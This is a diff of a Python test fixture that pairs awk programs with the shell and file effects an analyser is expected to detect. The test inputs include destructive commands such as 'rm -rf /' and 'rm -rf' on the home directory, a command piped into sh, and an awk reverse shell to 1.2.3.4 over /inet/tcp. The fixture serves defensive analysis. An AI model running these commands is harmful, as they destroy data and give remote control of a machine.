@@ -23,7 +23,9 @@ DEEDS: list[tuple[str, list[Fact]]] = [
         [("write", "out.txt"), ("append", "log"), ("write", f"{FIELD}.txt")],
     ),
     ('BEGIN{c="rm"; c=c " -rf /"; system(c)}', [("shell", "rm -rf /")]),
-    ('BEGIN{c="rm -rf /"} {c="ls"} END{system(c)}', [("shell", hole())]),
+    ('BEGIN{c="rm -rf /"} {c="ls"} END{system(c)}', [("shell", "ls"), ("shell", "rm -rf /")]),
+    ('{ printf "%s", "rm -rf /" | "sh" }', [("shell", "rm -rf /")]),
+    ("function f(a) { system(a) }\n{ f($1) }", [("shell", FIELD)]),
     ('BEGIN{system(sprintf("rm -rf %s", ENVIRON["HOME"]))}', [("shell", f"rm -rf {hole('HOME')}")]),
     (
         'BEGIN {s="/inet/tcp/0/1.2.3.4/42"; while(1){ s |& getline c; while ((c |& getline r) > 0) print r |& s }}',
